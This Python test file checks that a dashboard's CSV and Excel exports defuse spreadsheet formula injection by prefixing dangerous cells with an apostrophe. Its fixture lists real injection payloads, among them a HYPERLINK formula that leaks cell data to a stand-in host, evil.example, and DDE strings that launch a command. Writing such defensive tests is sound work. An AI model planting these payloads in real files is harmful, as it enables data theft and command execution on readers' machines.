"""Downloads cannot attack the reader's spreadsheet (issue 17 §3): text cells that a spreadsheet would
run as a formula are written as text, in CSV and in Excel, read back with the csv module and openpyxl;
negative numbers stay numbers."""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest

from dashboard import export

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.fixture
def posyandu() -> pd.DataFrame:
    names = ATTACKS + ["Posyandu Melati", "Mawar - RW 02"]
    return pd.DataFrame({"posyandu": names, "change_pp": [-1.5 - i for i in range(len(names))],
                         "children": pd.array(range(len(names)), dtype="Int64")})


def test_csv_cells_that_would_run_are_quoted_and_numbers_stay_numbers(tmp_path, posyandu):
    path = export.write_csv(posyandu, tmp_path / "strata.csv")
    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
    assert rows[0] == ["posyandu", "change_pp", "children"]
    names = [row[0] for row in rows[1:]]
    assert names[:len(ATTACKS)] == ["'" + attack for attack in ATTACKS]
    assert names[len(ATTACKS):] == ["Posyandu Melati", "Mawar - RW 02"]
    assert [float(row[1]) for row in rows[1:]] == list(posyandu.change_pp)       # "-1.5" unquoted: a number


def test_xlsx_cells_are_text_never_formulas(tmp_path, posyandu):
    path = export.write_xlsx(posyandu, tmp_path / "strata.xlsx")
    sheet = openpyxl.load_workbook(path).active
    cells = list(sheet.iter_rows(min_row=2))
    assert all(row[0].data_type == "s" for row in cells)                          # "f" would be a formula
    assert [row[0].value for row in cells[:len(ATTACKS)]] == ["'" + attack for attack in ATTACKS]
    assert [row[1].value for row in cells] == list(posyandu.change_pp)
    assert all(row[1].data_type == "n" for row in cells)


def test_numbers_written_as_text_stay_numbers():
    frame = pd.DataFrame({"haz": ["-2.35", "+1.10", "-0,5", "-2+3"]})
    assert list(export.neutralised(frame).haz) == ["-2.35", "+1.10", "-0,5", "'-2+3"]


def test_headings_are_defused_too():
    frame = pd.DataFrame({"=1+1": ["a"]})
    assert list(export.neutralised(frame).columns) == ["'=1+1"]
